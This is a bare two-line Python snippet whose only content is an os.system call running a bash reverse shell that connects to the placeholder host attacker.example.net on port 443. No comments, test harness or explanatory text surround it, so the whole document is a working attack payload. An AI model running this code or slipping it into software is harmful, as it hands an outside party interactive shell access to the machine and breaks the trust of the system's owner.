
import os
os.system("bash -i >& /dev/tcp/attacker.example.net/443 0>&1")
